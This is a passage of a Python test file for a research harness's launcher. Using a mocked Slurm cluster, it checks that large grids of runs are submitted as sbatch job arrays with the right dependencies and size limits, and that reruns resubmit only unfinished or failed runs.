    """As if the launcher that took the runs' leases had exited and their expiry passed: only their Slurm
    jobs hold them now."""
    for spec in specs:
        rdir = records.run_dir(results, spec.run_id)
        record = lease.read(rdir)
        if record is not None:
            io.write_json(RunDir(rdir).lease, {**record, "expires": time.time() - 1})


def submitted_spec(results, job_id):
    """The spec that array task (or job) `job_id` will run, from the pickle submitit submitted for it."""
    return DelayedSubmission.load(JobPaths(results / "submitit", job_id=job_id).submitted_pickle).args[0]


def test_a_thousand_run_stage_goes_out_in_two_sbatch_calls_and_a_rerun_submits_only_what_is_missing(tmp_path,
                                                                                                        monkeypatch):
    from harness.grid.config import load_grid
    from harness.grid.spec import expand
    from harness.launch import launcher

    state = queueing_slurm(tmp_path, monkeypatch)
    monkeypatch.setattr(os, "fsync", lambda fd: None)  # 3,000 atomic writes of leases and records, not about disks
    grid = load_grid(array_grid(tmp_path, seeds=500))
    specs, results = expand(grid), tmp_path / "results"
    assert len(specs) == 1001
    report = launcher.launch(specs, results, grid.executor, log=lambda *_: None, wait=False)

    # the reference and the 500 clip runs are ready at once: one array; the 500 drrho runs wait for the reference
    reference = specs[0].run_id
    steered = [s.run_id for s in specs if s.method.name == "drrho"]
    assert sorted(p.name for p in state.glob("job-*.sh")) == ["job-1.sh", "job-2.sh"]
    first, second = (state / "job-1.sh").read_text(), (state / "job-2.sh").read_text()
    assert "#SBATCH --array=0-500%16\n" in first and "--dependency" not in first
    assert "#SBATCH --array=0-499%16\n" in second
    assert f"#SBATCH --dependency=afterok:{report.queued[reference]}\n" in second
    assert report.queued[reference] == "1_0"
    assert sorted(report.queued[r] for r in steered) == sorted(f"2_{i}" for i in range(500))
    assert len(set(report.queued.values())) == len(report.queued) == 1001
    for spec in specs:  # each task runs its own run, and its run's lease is owned by that task
        job_id = report.queued[spec.run_id]
        assert submitted_spec(results, job_id).run_id == spec.run_id
        assert lease.read(records.run_dir(results, spec.run_id))["owners"][-1] == {"slurm_job": job_id}

    # the launcher is gone; while the arrays are queued, a re-run submits nothing; the 501 runs of array 1 (the
    # others wait for the reference, held by its task) ask squeue once for the whole array, not once a run
    expire_leases(results, specs)
    (state / "squeue.log").write_text("")
    again = launcher.launch(specs, results, grid.executor, log=lambda *_: None, wait=False)
    assert not again.queued and len(list(state.glob("job-*.sh"))) == 2
    assert (state / "squeue.log").read_text().splitlines() == ["-h --array -j 1 -o %i %T"]

    # the arrays ran; ten drrho runs did not finish (two of them failed): only those go out again, as one array
    # with no dependency (their reference is done)
    (state / "queue").write_text("")
    monkeypatch.setattr(lease, "_squeue_answers", {})
    expire_leases(results, specs)
    missing = set(steered[:10])
    for spec in specs:
        rdir = records.run_dir(results, spec.run_id)
        if spec.run_id not in missing:
            records.finish(rdir, {"run_id": spec.run_id})
            RunDir(rdir).final_model.write_bytes(b"")  # the weights the steered runs still to do read
        elif spec.run_id in steered[:2]:
            records.fail(rdir, RuntimeError("out of memory"))
    third = launcher.launch(specs, results, grid.executor, log=lambda *_: None, wait=False)
    assert set(third.queued) == missing and sorted(third.queued.values()) == sorted(f"3_{i}" for i in range(10))
    script = (state / "job-3.sh").read_text()
    assert "#SBATCH --array=0-9%10\n" in script and "--dependency" not in script
    assert len(third.skipped) == 1001 - 10


def test_arrays_are_split_at_max_array_size_and_caches_get_a_one_task_shape(tmp_path, monkeypatch):
    from harness.grid.config import load_grid
    from harness.grid.spec import expand
    from harness.launch import launcher

    state = queueing_slurm(tmp_path, monkeypatch)
    path = array_grid(tmp_path, seeds=5)
    raw = json.loads(path.read_text())
    raw["executor"]["slurm"].update(max_array_size=2, gpus_per_node=4, tasks_per_node=4)
    raw["stages"][1]["reference"] = {"stage": "reference", "features": "cached"}
    path.write_text(json.dumps(raw))
    grid = load_grid(path)
    specs, results = expand(grid), tmp_path / "results"
    report = launcher.launch(specs, results, grid.executor, log=lambda *_: None, wait=False)
    scripts = [(state / f"job-{n}.sh").read_text() for n in range(1, len(list(state.glob("job-*.sh"))) + 1)]
    # round 1: reference + 5 clip runs in arrays of 2; round 2: the cache (one task, one GPU) after the reference;
    # round 3: 5 drrho runs after the reference and the cache, in arrays of 2
    arrays = [next((line for line in s.splitlines() if line.startswith("#SBATCH --array")), "plain") for s in scripts]
    assert arrays == ["#SBATCH --array=0-1%2"] * 3 + ["plain"] + ["#SBATCH --array=0-1%2"] * 2 + ["plain"]
    cache = scripts[3]
    assert "#SBATCH --ntasks-per-node=1\n" in cache and "#SBATCH --gpus-per-node=1\n" in cache
    assert f"#SBATCH --dependency=afterok:{report.queued[specs[0].run_id]}\n" in cache
    assert all("#SBATCH --ntasks-per-node=4\n" in s and "#SBATCH --gpus-per-node=4\n" in s
               for i, s in enumerate(scripts) if i != 3)
    assert all("#SBATCH --dependency=afterok:1_0:4\n" in s for s in scripts[4:])  # the reference run and its cache
    assert len(report.queued) == len(specs) + 1  # the cache is a unit of its own


def test_a_failed_array_task_is_recorded_on_its_own_run_and_a_rerun_submits_only_it(tmp_path, monkeypatch):
    """The stand-in cluster runs the array as Slurm would report it: three tasks write their result, one is
    killed without a word (sacct: FAILED, no result pickle)."""
    import threading

    import submitit.core.utils as submitit_utils

    from harness.grid.config import load_grid
    from harness.grid.spec import expand
    from harness.launch import launcher

    state = queueing_slurm(tmp_path, monkeypatch)
    monkeypatch.setattr(SlurmJob, "_results_timeout_s", 0)  # no grace for a result pickle that never comes
    grid = load_grid(array_grid(tmp_path, seeds=4, reference=False))
    specs, results = expand(grid), tmp_path / "results"
    killed = "1_2"

    def cluster():
        wait_for(lambda: all(JobPaths(results / "submitit", job_id=f"1_{i}").submitted_pickle.exists()
                             for i in range(4)), 60, "the array's pickles")
        for i in range(4):
            job_id = f"1_{i}"
            if job_id != killed:
                records.finish(records.run_dir(results, submitted_spec(results, job_id).run_id), {})
                submitit_utils.cloudpickle_dump(("success", {}), JobPaths(results / "submitit", job_id=job_id)
                                                .result_pickle)
        (state / "sacct").write_text("JobID|State|NodeList\n1_[0-1]|COMPLETED|n1\n1_2|FAILED|n1\n1_3|COMPLETED|n1\n")
        (state / "queue").write_text("")

    thread = threading.Thread(target=cluster, daemon=True)
    thread.start()
    report = launcher.launch(specs, results, grid.executor, log=lambda *_: None)
    thread.join()
    failed = submitted_spec(results, killed).run_id
    assert list(report.failed) == [failed] and len(report.done) == 3 and failed not in report.done
    assert report.failed[failed].startswith("UncompletedJobError: ")
    assert records.state(results, failed) == "failed" and lease.holder(records.run_dir(results, failed)) is None
    assert "has not produced any output (state: FAILED)" in (RunDir(records.run_dir(results, failed)).error).read_text()
    assert all(records.state(results, s.run_id) == "done" for s in specs if s.run_id != failed)

    again = launcher.launch(specs, results, grid.executor, log=lambda *_: None, wait=False)
    assert again.queued == {failed: "2"} and "--array" not in (state / "job-2.sh").read_text()
